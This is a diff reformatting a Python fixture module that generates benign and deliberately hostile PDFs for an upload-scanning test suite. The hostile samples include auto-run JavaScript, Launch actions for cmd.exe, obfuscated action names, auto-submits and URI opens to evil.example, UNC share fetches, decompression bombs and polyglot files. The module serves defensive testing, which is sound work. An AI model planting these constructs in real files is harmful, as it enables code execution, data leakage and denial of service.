@@ -1,4 +1,7 @@
-"""PDFs for the corpus of uploads: those that people have, and those that somebody made to do harm. Each made when it is asked for."""
+"""PDFs for the corpus of uploads: those that people have, and those that somebody made to do harm.
+
+Each made when it is asked for.
+"""
 
 import io
 import zipfile
@@ -52,8 +55,14 @@ def raw(*objects: bytes, header: bytes = b"%PDF-1.7\n", trailer: bytes = b"") ->
         places.append(len(out))
         out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
     start = len(out)
-    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
-    out += b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
+        b"%010d 00000 n \n" % place for place in places
+    )
+    out += b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(objects) + 1,
+        trailer,
+        start,
+    )
     return bytes(out)
 
 
@@ -71,7 +80,11 @@ def drawing(contents: bytes, *more: bytes) -> bytes:
 
 
 def picture(width: int, height: int, data: bytes, told: bytes) -> bytes:
-    named = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray %b" % (width, height, told)
+    named = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray %b" % (
+        width,
+        height,
+        told,
+    )
     return drawing(stream(b""), stream(data, named))
 
 
@@ -97,7 +110,9 @@ def action(kind: str, **more: Any) -> Dictionary:
 
 
 def annotation(pdf: pikepdf.Pdf, subtype: str, **more: Any) -> None:
-    note = Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([10, 10, 200, 40]), **more)
+    note = Dictionary(
+        Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([10, 10, 200, 40]), **more
+    )
     pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])
 
 
@@ -148,7 +163,12 @@ def bomb(levels: int = 1) -> bytes:
 
 def jpeg_header(width: int, height: int) -> bytes:
     size = bytes([8]) + height.to_bytes(2, "big") + width.to_bytes(2, "big") + b"\x01\x01\x11\x00"
-    return b"\xff\xd8\xff\xc0" + (len(size) + 2).to_bytes(2, "big") + size + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\0\0\xff\xd9"
+    return (
+        b"\xff\xd8\xff\xc0"
+        + (len(size) + 2).to_bytes(2, "big")
+        + size
+        + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\0\0\xff\xd9"
+    )
 
 
 JS = String("this.exportDataObject({cName: 'a'})")
@@ -159,21 +179,46 @@ HTML = b"<html><script>alert(1)</script></html>"
 PDFS: dict[str, tuple[str, Callable[[], bytes]]] = {
     # what people have
     "pdf-printed": (OK, lambda: plain(3)),
-    "pdf-of-word-2.0": (OK, lambda: saved(force_version="2.0", object_stream_mode=pikepdf.ObjectStreamMode.generate)),
+    "pdf-of-word-2.0": (
+        OK,
+        lambda: saved(force_version="2.0", object_stream_mode=pikepdf.ObjectStreamMode.generate),
+    ),
     "pdf-linearized": (OK, lambda: saved(linearize=True)),
     "pdf-with-a-byte-order-mark": (OK, lambda: b"\xef\xbb\xbf" + plain()),
     "pdf-behind-line-breaks": (OK, lambda: b"\r\n\r\n" + plain()),
     "pdf-behind-blanks": (OK, lambda: b" " * 1_000 + plain()),
-    "pdf-of-a-printer": (OK, lambda: b"\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n" + plain()),
+    "pdf-of-a-printer": (
+        OK,
+        lambda: b"\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n" + plain(),
+    ),
     "pdf-signed": (OK, signed),
     "pdf-signed-then-added-to": (OK, lambda: signed(3)),
     "pdf-form-filled": (OK, lambda: saved(field)),
-    "pdf-with-links": (OK, lambda: saved(lambda pdf: annotation(pdf, "Link", A=action("URI", URI=String("https://hh.example"))))),
-    "pdf-opens-at-a-page": (OK, lambda: saved(lambda pdf: setattr(pdf.Root, "OpenAction", Array([pdf.pages[0].obj, Name.Fit])))),
-    "pdf-with-a-button-that-submits": (OK, lambda: saved(lambda pdf: field(pdf, A=action("SubmitForm", F=String("https://hh.example"))))),
+    "pdf-with-links": (
+        OK,
+        lambda: saved(
+            lambda pdf: annotation(pdf, "Link", A=action("URI", URI=String("https://hh.example")))
+        ),
+    ),
+    "pdf-opens-at-a-page": (
+        OK,
+        lambda: saved(
+            lambda pdf: setattr(pdf.Root, "OpenAction", Array([pdf.pages[0].obj, Name.Fit]))
+        ),
+    ),
+    "pdf-with-a-button-that-submits": (
+        OK,
+        lambda: saved(
+            lambda pdf: field(pdf, A=action("SubmitForm", F=String("https://hh.example")))
+        ),
+    ),
     "pdf-with-no-files-in-its-list": (
         OK,
-        lambda: saved(lambda pdf: setattr(pdf.Root, "Names", Dictionary(EmbeddedFiles=Dictionary(Names=Array([]))))),
+        lambda: saved(
+            lambda pdf: setattr(
+                pdf.Root, "Names", Dictionary(EmbeddedFiles=Dictionary(Names=Array([])))
+            )
+        ),
     ),
     "pdf-with-a-moved-table": (OK, lambda: plain().replace(b"\n", b"\n% edited by hand\n", 1)),
     "pdf-with-windows-line-ends": (OK, lambda: drawing(stream(b"0 0 m")).replace(b"\n", b"\r\n")),
@@ -181,55 +226,127 @@ PDFS: dict[str, tuple[str, Callable[[], bytes]]] = {
     "pdf-padded": (OK, lambda: plain() + bytes(4_096)),
     "pdf-with-a-mails-footer": (OK, lambda: plain() + b"\r\n--\r\nSent from my phone\r\n"),
     "pdf-large-scan": (OK, lambda: picture(2480, 3508, zlib.compress(bytes(2480 * 3508)), GREY)),
-    "pdf-plan-of-a0": (OK, lambda: picture(19_866, 28_087, b"\0\x10\x01", b"/BitsPerComponent 1 /Filter /CCITTFaxDecode")),
-    "pdf-with-a-wrong-checksum": (OK, lambda: drawing(stream(zlib.compress(b"0 0 m")[:-4] + b"abcd", b"/Filter /FlateDecode"))),
+    "pdf-plan-of-a0": (
+        OK,
+        lambda: picture(
+            19_866, 28_087, b"\0\x10\x01", b"/BitsPerComponent 1 /Filter /CCITTFaxDecode"
+        ),
+    ),
+    "pdf-with-a-wrong-checksum": (
+        OK,
+        lambda: drawing(stream(zlib.compress(b"0 0 m")[:-4] + b"abcd", b"/Filter /FlateDecode")),
+    ),
     "pdf-with-600-pages": (OK, lambda: plain(600)),
     # locked
-    "pdf-with-a-password": ("password", lambda: saved(encryption=pikepdf.Encryption(user="bi-mat", owner="bi-mat"))),
-    "pdf-with-restricted-rights": ("encrypted", lambda: saved(encryption=pikepdf.Encryption(user="", owner="bi-mat"))),
+    "pdf-with-a-password": (
+        "password",
+        lambda: saved(encryption=pikepdf.Encryption(user="bi-mat", owner="bi-mat")),
+    ),
+    "pdf-with-restricted-rights": (
+        "encrypted",
+        lambda: saved(encryption=pikepdf.Encryption(user="", owner="bi-mat")),
+    ),
     "pdf-locked-the-old-way": (
         "encrypted",
-        lambda: saved(encryption=pikepdf.Encryption(user="", owner="x", R=3, aes=False, metadata=False)),
+        lambda: saved(
+            encryption=pikepdf.Encryption(user="", owner="x", R=3, aes=False, metadata=False)
+        ),
     ),
     # does something
     "pdf-script-when-opened": ("script", lambda: at_open("JavaScript", JS=JS)),
     "pdf-script-in-its-names": ("script", lambda: saved(script_in_names)),
-    "pdf-script-in-an-object-stream": ("script", lambda: saved(script_in_names, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
-    "pdf-script-of-a-field": ("script", lambda: saved(lambda pdf: field(pdf, AA=Dictionary(K=action("JavaScript", JS=JS))))),
+    "pdf-script-in-an-object-stream": (
+        "script",
+        lambda: saved(script_in_names, object_stream_mode=pikepdf.ObjectStreamMode.generate),
+    ),
+    "pdf-script-of-a-field": (
+        "script",
+        lambda: saved(lambda pdf: field(pdf, AA=Dictionary(K=action("JavaScript", JS=JS)))),
+    ),
     "pdf-script-with-a-spelled-name": (
         "script",
-        lambda: at_open("JavaScript", JS=JS).replace(b"/JavaScript", b"/J#61vaScri#70t").replace(b"/JS", b"/J#53"),
+        lambda: (
+            at_open("JavaScript", JS=JS)
+            .replace(b"/JavaScript", b"/J#61vaScri#70t")
+            .replace(b"/JS", b"/J#53")
+        ),
     ),
-    "pdf-script-that-nothing-names": ("script", lambda: drawing(stream(b""), b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
-    "pdf-launches-a-program": ("launch", lambda: saved(lambda pdf: annotation(pdf, "Link", A=action("Launch", F=String("cmd.exe"))))),
+    "pdf-script-that-nothing-names": (
+        "script",
+        lambda: drawing(stream(b""), b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
+    ),
+    "pdf-launches-a-program": (
+        "launch",
+        lambda: saved(lambda pdf: annotation(pdf, "Link", A=action("Launch", F=String("cmd.exe")))),
+    ),
     "pdf-launches-after-a-link": ("launch", lambda: saved(launch_later)),
     "pdf-launches-in-a-structure's-clothes": (
         "launch",
         lambda: drawing(stream(b""), b"<< /Type /StructElem /K 0 /S /Launch /F (cmd.exe) >>"),
     ),
-    "pdf-launches-by-a-name-elsewhere": ("launch", lambda: drawing(stream(b""), b"<< /S 6 0 R /F (cmd.exe) >>", b"/Launch")),
-    "pdf-script-by-a-name-elsewhere": ("script", lambda: drawing(stream(b""), b"<< /S 6 0 R /JS 7 0 R >>", b"/JavaScript", b"(a)")),
-    "pdf-imports-data": ("launch", lambda: saved(lambda pdf: annotation(pdf, "Link", A=action("ImportData", F=String("a.fdf"))))),
-    "pdf-opens-an-address": ("automatic-action", lambda: at_open("URI", URI=String("https://evil.example"))),
+    "pdf-launches-by-a-name-elsewhere": (
+        "launch",
+        lambda: drawing(stream(b""), b"<< /S 6 0 R /F (cmd.exe) >>", b"/Launch"),
+    ),
+    "pdf-script-by-a-name-elsewhere": (
+        "script",
+        lambda: drawing(stream(b""), b"<< /S 6 0 R /JS 7 0 R >>", b"/JavaScript", b"(a)"),
+    ),
+    "pdf-imports-data": (
+        "launch",
+        lambda: saved(
+            lambda pdf: annotation(pdf, "Link", A=action("ImportData", F=String("a.fdf")))
+        ),
+    ),
+    "pdf-opens-an-address": (
+        "automatic-action",
+        lambda: at_open("URI", URI=String("https://evil.example")),
+    ),
     "pdf-submits-when-a-page-opens": (
         "automatic-action",
-        lambda: saved(lambda pdf: setattr(pdf.pages[0].obj, "AA", Dictionary(O=action("SubmitForm", F=String("https://evil.example"))))),
+        lambda: saved(
+            lambda pdf: setattr(
+                pdf.pages[0].obj,
+                "AA",
+                Dictionary(O=action("SubmitForm", F=String("https://evil.example"))),
+            )
+        ),
     ),
-    "pdf-fetches-a-stream": ("remote-content", lambda: drawing(stream(b"", b"/F (\\\\\\\\evil\\\\a)"))),
+    "pdf-fetches-a-stream": (
+        "remote-content",
+        lambda: drawing(stream(b"", b"/F (\\\\\\\\evil\\\\a)")),
+    ),
     "pdf-goes-to-a-share": (
         "remote-content",
-        lambda: saved(lambda pdf: annotation(pdf, "Link", A=action("GoToR", F=String("\\\\evil\\a.pdf"), D=Array([0, Name.Fit])))),
+        lambda: saved(
+            lambda pdf: annotation(
+                pdf, "Link", A=action("GoToR", F=String("\\\\evil\\a.pdf"), D=Array([0, Name.Fit]))
+            )
+        ),
     ),
     # holds something
     "pdf-with-an-attachment": ("embedded-file", lambda: saved(attached)),
-    "pdf-with-a-pinned-file": ("embedded-file", lambda: saved(lambda pdf: annotation(pdf, "FileAttachment", FS=Dictionary(F=String("a"))))),
-    "pdf-portfolio": ("embedded-file", lambda: saved(lambda pdf: setattr(pdf.Root, "Collection", Dictionary(View=Name.D)))),
+    "pdf-with-a-pinned-file": (
+        "embedded-file",
+        lambda: saved(lambda pdf: annotation(pdf, "FileAttachment", FS=Dictionary(F=String("a")))),
+    ),
+    "pdf-portfolio": (
+        "embedded-file",
+        lambda: saved(lambda pdf: setattr(pdf.Root, "Collection", Dictionary(View=Name.D))),
+    ),
     "pdf-rich-media": ("rich-media", lambda: saved(lambda pdf: annotation(pdf, "RichMedia"))),
-    "pdf-film": ("rich-media", lambda: saved(lambda pdf: annotation(pdf, "Screen", A=action("Rendition")))),
+    "pdf-film": (
+        "rich-media",
+        lambda: saved(lambda pdf: annotation(pdf, "Screen", A=action("Rendition"))),
+    ),
     "pdf-dynamic-form": (
         "xfa",
         lambda: saved(
-            lambda pdf: setattr(pdf.Root, "AcroForm", Dictionary(Fields=Array([]), XFA=Array([String("xdp"), pdf.make_stream(b"<x/>")])))
+            lambda pdf: setattr(
+                pdf.Root,
+                "AcroForm",
+                Dictionary(Fields=Array([]), XFA=Array([String("xdp"), pdf.make_stream(b"<x/>")])),
+            )
         ),
     ),
     # broken off, or another file
@@ -239,10 +356,15 @@ PDFS: dict[str, tuple[str, Callable[[], bytes]]] = {
     "pdf-signed-cut": ("cut-off", lambda: signed(2)[:-60]),
     "pdf-without-objects": ("damaged", lambda: b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF\n"),
     "pdf-by-name-only": ("cut-off", lambda: b"%PDF-1.7\n" + b"a page\n" * 1_000),
-    "pdf-without-pages": ("damaged", lambda: raw(CATALOGUE, b"<< /Type /Pages /Kids [] /Count 0 >>")),
+    "pdf-without-pages": (
+        "damaged",
+        lambda: raw(CATALOGUE, b"<< /Type /Pages /Kids [] /Count 0 >>"),
+    ),
     "pdf-with-overwritten-contents": (
         "damaged",
-        lambda: drawing(stream(zlib.compress(b"0 0 m\n" * 900)[:20] + bytes(40), b"/Filter /FlateDecode")),
+        lambda: drawing(
+            stream(zlib.compress(b"0 0 m\n" * 900)[:20] + bytes(40), b"/Filter /FlateDecode")
+        ),
     ),
     "pdf-behind-a-web-page": ("media-type", lambda: HTML + plain()),
     "pdf-behind-a-program": ("media-type", lambda: b"MZ" + bytes(100) + plain()),
@@ -253,14 +375,25 @@ PDFS: dict[str, tuple[str, Callable[[], bytes]]] = {
     # made to be too much
     "pdf-bomb": ("too-complex", bomb),
     "pdf-bomb-in-a-bomb": ("too-complex", lambda: bomb(2)),
-    "pdf-bomb-of-filters": ("too-complex", lambda: drawing(stream(b"a", b"/Filter [%b]" % (b"/FlateDecode " * 9)))),
+    "pdf-bomb-of-filters": (
+        "too-complex",
+        lambda: drawing(stream(b"a", b"/Filter [%b]" % (b"/FlateDecode " * 9))),
+    ),
     "pdf-of-too-many-objects": ("too-complex", lambda: drawing(stream(b""), *[b"null"] * 300_001)),
     "pdf-nested-too-deep": ("too-complex", lambda: saved(deep)),
     "pdf-with-2001-pages": ("too-many-pages", lambda: plain(2_001)),
-    "pdf-picture-of-60000": ("too-many-pixels", lambda: picture(60_000, 60_000, zlib.compress(b"a"), GREY)),
+    "pdf-picture-of-60000": (
+        "too-many-pixels",
+        lambda: picture(60_000, 60_000, zlib.compress(b"a"), GREY),
+    ),
     "pdf-photo-of-60000": (
         "too-many-pixels",
-        lambda: picture(100, 100, jpeg_header(60_000, 60_000), b"/BitsPerComponent 8 /Filter /DCTDecode"),
+        lambda: picture(
+            100, 100, jpeg_header(60_000, 60_000), b"/BitsPerComponent 8 /Filter /DCTDecode"
+        ),
     ),
-    "pdf-whose-pages-hold-themselves": ("damaged", lambda: raw(CATALOGUE, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")),
+    "pdf-whose-pages-hold-themselves": (
+        "damaged",
+        lambda: raw(CATALOGUE, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
+    ),
 }
